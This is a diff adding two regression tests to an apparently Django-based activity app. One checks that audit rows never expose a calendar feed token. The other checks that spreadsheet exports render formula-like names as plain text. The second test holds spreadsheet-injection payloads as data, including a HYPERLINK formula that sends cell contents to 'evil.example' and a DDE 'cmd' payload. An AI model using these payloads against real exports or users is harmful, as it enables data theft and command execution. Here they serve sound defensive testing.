@@ -208,3 +208,33 @@ def test_alliance_page_counts_a_cohosted_activity_once(world: Any, client_for: A
     stats = page.context["activity_stats"]
     assert (stats["held"], stats["hosts"]) == (1, 3)
     assert 'data-testid="alliance-activities-held">1<' in page.content.decode()
+
+
+def test_no_audit_row_holds_a_feed_token(world: Any, client_for: Any) -> None:
+    """The token is the feed's only credential (issue 24): the audit trail, readable by auditors, must not show it."""
+    from core.models import AuditEvent
+
+    client = client_for("staff_fz")
+    client.post("/activities/calendar/links/", {"organization": world.orgs["fz-e1"].pk})
+    feed = CalendarFeed.objects.get(user=world.users["staff_fz"])
+    assert Client().get(feed.get_absolute_url()).status_code == 200  # audited use
+    client.post("/activities/calendar/links/", {"revoke": feed.pk})
+    events = AuditEvent.objects.filter(object_type="activities.calendarfeed")
+    assert events.count() >= 3
+    for event in events:
+        assert feed.token not in f"{event.changes} {event.object_repr} {event.object_id}"
+
+
+def test_exported_text_is_never_a_formula(world: Any, client_for: Any) -> None:
+    """A theme or guest name saved as a formula comes out of the exports as the text typed (issue 24 §3)."""
+    hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)"]
+    activity = make_activity(world.orgs["fz-e1"], starts=at(hours=-1), theme=hostile[0])
+    for name in hostile[1:]:
+        services.sign_in_guest(activity=activity, name=name, unit="-2+3")
+    client = client_for("staff_fz")
+    for response in (client.post("/activities/", {"export": "xlsx"}),
+                     client.get(f"/activities/{activity.pk}/attendance.xlsx")):
+        cells = [cell for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row]
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+        values = {cell.value for cell in cells}
+        assert hostile[0] in values or set(hostile[1:]) <= values
